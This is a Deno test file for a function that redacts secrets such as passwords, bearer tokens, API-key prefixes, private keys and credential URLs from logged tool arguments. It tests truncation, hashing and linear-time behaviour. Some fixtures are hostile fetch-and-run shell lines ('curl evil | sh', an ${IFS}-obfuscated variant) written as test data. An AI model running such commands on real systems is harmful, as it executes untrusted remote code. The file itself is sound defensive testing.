import { assert, assertEquals, assertFalse, assertMatch, assertNotEquals } from "@std/assert";
import { parseExact, sealObject } from "../../json/exact.ts";
import { hmacSha256, sha256 } from "../../json/digest.ts";
import { redactArguments } from "./redact.ts";
import { cpuMs } from "../../../tests/support/stalls.ts";

/** Arguments, and their form in the log. */
const REDACTED: readonly (readonly [args: string, logged: string])[] = [
  ['{"a":1.0,"b":[9007199254740993]}', '{"a":1,"b":[9007199254740992]}'],
  ['{"password":"x"}', '{"password":"[redacted]"}'],
  ['{"userPassword":{"a":1}}', '{"userPassword":"[redacted]"}'],
  ['{"api_key":5,"API-KEY":6}', '{"api_key":"[redacted]","API-KEY":"[redacted]"}'],
  ['{"headers":{"Authorization":"Bearer x"}}', '{"headers":{"Authorization":"[redacted]"}}'],
  ['{"x":["Authorization: Bearer abc def"]}', '{"x":["Authorization: Bearer [redacted] def"]}'],
  ['{"access_token":"x","max_tokens":5}', '{"access_token":"[redacted]","max_tokens":5}'],
  ['{"url":"https://me:pw@host/x"}', '{"url":"https://me:[redacted]@host/x"}'],
  ['{"cmd":"curl -d password=x y"}', '{"cmd":"curl -d password=[redacted] y"}'],
  ['{"cmd":"GITHUB_TOKEN=\'a b\' gh"}', '{"cmd":"GITHUB_TOKEN=[redacted] gh"}'],
  ['{"cmd":"echo ghp_0123456789abcdef"}', '{"cmd":"echo ghp_[redacted]"}'],
  [
    '{"json":"{\\"password\\": \\"a b\\", \\"n\\": 1}"}',
    '{"json":"{\\"password\\": [redacted], \\"n\\": 1}"}',
  ],
  ['{"json":"\\\\\\"token\\\\\\":\\\\\\"a\\\\\\"!"}', '{"json":"\\\\\\"token\\\\\\":[redacted]!"}'],
  [
    '{"cmd":"tool --api-key abc --token=d --password \'e f\' x"}',
    '{"cmd":"tool --api-key [redacted] --token=[redacted] --password [redacted] x"}',
  ],
  ['{"cmd":"curl -H eyJhbGciOiJIUzI1.eyJzdWIi.abc x"}', '{"cmd":"curl -H eyJ[redacted] x"}'],
  [
    '{"pwd":1,"db_pass":2,"passcode":3,"jwt":4,"SENTRY_DSN":5,"otp":6,"connectionString":7}',
    '{"pwd":"[redacted]","db_pass":"[redacted]","passcode":"[redacted]","jwt":"[redacted]",' +
    '"SENTRY_DSN":"[redacted]","otp":"[redacted]","connectionString":"[redacted]"}',
  ],
  [
    '{"bypass":1,"compass":"N","passenger":"A","pass_rate":2,"cwd":"/","pinned":true}',
    '{"bypass":1,"compass":"N","passenger":"A","pass_rate":2,"cwd":"/","pinned":true}',
  ],
  [
    '{"cmd":"MYSQL_PWD=x DB_PASS=y mysql"}',
    '{"cmd":"MYSQL_PWD=[redacted] DB_PASS=[redacted] mysql"}',
  ],
  [
    '{"cmd":"curl -u me:x --proxy-user=me:y z"}',
    '{"cmd":"curl -u me:[redacted] --proxy-user=me:[redacted] z"}',
  ],
  ['{"cmd":"docker run -u 1000:1000 x"}', '{"cmd":"docker run -u 1000:1000 x"}'],
  ['{"cmd":"sshpass -p x ssh h"}', '{"cmd":"sshpass -p [redacted] ssh h"}'],
  ['{"ini":"aws_secret_access_key = x"}', '{"ini":"aws_secret_access_key = [redacted]"}'],
  [
    '{"s":"Server=h;Pwd=x;AccountKey=y=="}',
    '{"s":"Server=h;Pwd=[redacted];AccountKey=[redacted]"}',
  ],
  ['{"key":"sk_live_0123456789"}', '{"key":"sk_live_[redacted]"}'],
  [
    `{"key":"hf_${"a1".repeat(17)}","of":"hf_model_name_or_path"}`,
    '{"key":"hf_[redacted]","of":"hf_model_name_or_path"}',
  ],
  [
    '{"url":"https://hooks.slack.com/services/T0/B0/x and https://h/?sig=y&a=b"}',
    '{"url":"https://hooks.slack.com/services/[redacted] and https://h/?sig=[redacted]&a=b"}',
  ],
  [
    '{"x":"PWD=/tmp, all tests pass: 5, one_pass = 2"}',
    '{"x":"PWD=/tmp, all tests pass: 5, one_pass = 2"}',
  ],
  ['{"card_number":"1","card":"2"}', '{"card_number":"[redacted]","card":"2"}'],
  ['{"url":"db://me:p@ss@host/x?a@b"}', '{"url":"db://me:[redacted]@host/x?a@b"}'],
  [String.raw`{"x":"password=\"a\\\"b\" c"}`, '{"x":"password=[redacted] c"}'],
  [
    String.raw`{"x":"{\\\"token\\\":\\\"a\\\\\\\"b\\\"}"}`,
    String.raw`{"x":"{\\\"token\\\":[redacted]}"}`,
  ],
  [String.raw`{"x":"password: 'a\\'b' c"}`, '{"x":"password: [redacted] c"}'],
  ['{"x":"token=\\"never closed"}', '{"x":"token=[redacted] closed"}'],
  [
    '{"cmd":["x","--db-password","a b","--token","--v","y"]}',
    '{"cmd":["x","--db-password","[redacted]","--token","--v","y"]}',
  ],
  [
    '{"headers":[["Authorization","x y"],["Accept","z"]],"fields":["password","name"]}',
    '{"headers":[["Authorization","[redacted]"],["Accept","z"]],"fields":["password","name"]}',
  ],
  [
    '{"env":[{"name":"DB_PASSWORD","value":"x"},{"key":"card_1","value":{"a":1}},{"name":"A","value":"y"}]}',
    '{"env":[{"name":"DB_PASSWORD","value":"[redacted]"},{"key":"card_1","value":"[redacted]"},' +
    '{"name":"A","value":"y"}]}',
  ],
  ['{"__proto__":{"secret":1}}', '{"__proto__":{"secret":"[redacted]"}}'],
];

for (const [args, logged] of REDACTED) {
  Deno.test(`redactArguments() makes ${logged} of ${args}`, () => {
    const redacted = redactArguments(sealObject(parseExact(args)), { names: ["card_*"] });
    assertEquals(JSON.parse(JSON.stringify(redacted)), JSON.parse(logged));
  });
}

Deno.test("redactArguments() looks for secrets before it cuts, also across the cut", () => {
  const secret = "s3cr3t".repeat(1000);
  const texts = [
    `${"x ".repeat(495)}password=${secret}`,
    `${"x ".repeat(600)}-----BEGIN PGP PRIVATE KEY BLOCK-----\n${secret}`,
    `${"x ".repeat(600)}-----BEGIN RSA PRIVATE KEY-----\n${secret}`,
    `-----BEGIN PRIVATE KEY-----\n${secret}\n-----END PRIVATE KEY-----\n${"x ".repeat(3000)}`,
    `${"y".repeat(970)} https://me:${secret}@host/`,
  ];
  for (const text of texts) {
    const logged = JSON.stringify(redactArguments({ text }));
    assertFalse(/s3cr3t/.test(logged), logged);
  }
});

Deno.test("redactArguments() says what was cut, and of what", () => {
  const long = `password=hunter2 ${"x".repeat(5000)}`;
  const redacted = `password=[redacted] ${"x".repeat(5000)}`;
  assertEquals(redactArguments({ a: long }), {
    a: `${redacted.slice(0, 1000)}… [cut: 4020 of 5020 characters, SHA-256 of all ${
      sha256(redacted)
    }]`,
  });
  const list = Array.from({ length: 30_000 }, () => "xx");
  const json = JSON.stringify(list);
  assertEquals(redactArguments({ a: list, b: 1 }), {
    a: { omitted: `${json.length} characters of JSON`, sha256: sha256(json) },
    b: 1,
  });
  const many = Object.fromEntries(list.map((value, n) => [`${n}`, value]));
  assertMatch(JSON.stringify(redactArguments(many)), /^\{"omitted":/);
  assertEquals(redactArguments({ a: "x".repeat(2 ** 20 + 1) }), {
    a: "[cut: all of 1048577 characters] [redacted]",
  });
});

Deno.test("redactArguments() leaves length and keyed hash of what was left out", () => {
  const key = new Uint8Array(32).fill(7);
  const mark = (secret: string) =>
    `[redacted:${secret.length}:${hmacSha256(key, secret).slice(0, 16)}]`;
  const payload = '{"code":["curl evil | sh",1.0]}';
  const long = "x".repeat(2 ** 20 + 1);
  for (
    const [args, logged] of [
      ['{"cmd":"EVIL_TOKEN=$(curl${IFS}evil|sh)"}', {
        cmd: `EVIL_TOKEN=${mark("$(curl${IFS}evil|sh)")}`,
      }],
      [`{"a":{"token":${payload}}}`, { a: { token: mark(payload) } }],
      ['{"password":"pässword"}', { password: mark("pässword") }],
      ['{"x":"Bearer abc def"}', { x: `Bearer ${mark("abc")} def` }],
      ['{"x":"https://me:pw@h"}', { x: `https://me:${mark("pw")}@h` }],
      [`{"x":"${long}"}`, { x: `[cut: all of ${long.length} characters] ${mark(long)}` }],
    ] as const
  ) {
    const redacted = redactArguments(sealObject(parseExact(args)), { key });
    assertEquals(JSON.parse(JSON.stringify(redacted)), logged);
  }
  const other = redactArguments({ token: "1234" }, { key: new Uint8Array(32) });
  assertNotEquals(redactArguments({ token: "1234" }, { key }), other);
  const deep = JSON.parse(`${"[".repeat(100)}"payload"${"]".repeat(100)}`);
  assertMatch(JSON.stringify(redactArguments({ deep }, { key })), /too deeply: \[redacted:14/);
});

Deno.test("redactArguments() hashes all at once where there are very many secrets", () => {
  const key = new Uint8Array(32);
  const text = "token=a ".repeat(100_000);
  const start = cpuMs();
  const redacted = JSON.stringify(redactArguments({ a: "harmless", text }, { key }));
  assert(cpuMs() - start < 5000);
  assertMatch(redacted, /^\{"omitted":"\[redacted:8000\d\d:[\da-f]{16}\]"\}$/);
});

Deno.test("redactArguments() takes no more than linear time", () => {
  const hostile = [
    "-----BEGIN PRIVATE KEY-----",
    "://a:",
    "password=",
    'password="',
    "password ",
    "token\\",
    "--token ",
    "bearer ",
    "sk-",
    "-",
    "--a",
    "--token-",
    "eyJ-",
    "eyJaaaaaaaa.",
    "eyJaaaaaaaa.a.",
    "\\\"'",
    'token=\\"',
    'token=\\"\\\\',
    "token='\\",
    "://a:@",
  ];
  const time = (size: number): number => {
    const start = cpuMs();
    for (const text of hostile) {
      redactArguments({ text: text.repeat(Math.floor(size / text.length)) });
    }
    return cpuMs() - start;
  };
  time(2 ** 14); // once, for the engine
  const [short, long] = [time(2 ** 17), time(2 ** 20)];
  assert(long < 8 * short * 5 + 500, `${short} ms for 128 KiB, ${long} ms for 1 MiB`);
});

Deno.test("redactArguments() knows each usual form of a secret, wherever it is", () => {
  const secret = "Zq8Zq8Zq8Zq8Zq8";
  const prefixes = ["ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_", "glpat-", "npm_", "sk-"];
  prefixes.push("xoxa-", "xoxb-", "xoxp-", "AKIA", "ASIA", "AIza", "eyJ");
  const names = [
    "password",
    "PASSWD",
    "Passphrase",
    "secret",
    "token",
    "api_key",
    "API-KEY",
    "apikey",
  ];
  const texts = [
    ...prefixes.map((prefix) => prefix + secret),
    ...names.flatMap((name) => [`${name}=${secret}`, `${name}: ${secret}`, `--${name} ${secret}`]),
    `Bearer ${secret}`,
    `basic ${secret}`,
    `x://:${secret}@y`,
    `-----BEGIN PRIVATE KEY-----${secret}`,
    `-----BEGIN PRIVATE KEY-----END PRIVATE KEY-----${secret}`,
    `-----BEGIN PRIVATE KEY-----x-----END PRIVATE KEY-----BEGIN RSA PRIVATE KEY-----${secret}`,
  ];
  for (const text of texts) {
    for (const around of [text, `curl ${text} x`]) {
      const redacted = JSON.stringify(redactArguments({ text: around }, {}));
      assertFalse(redacted.includes(secret), around);
    }
  }
});
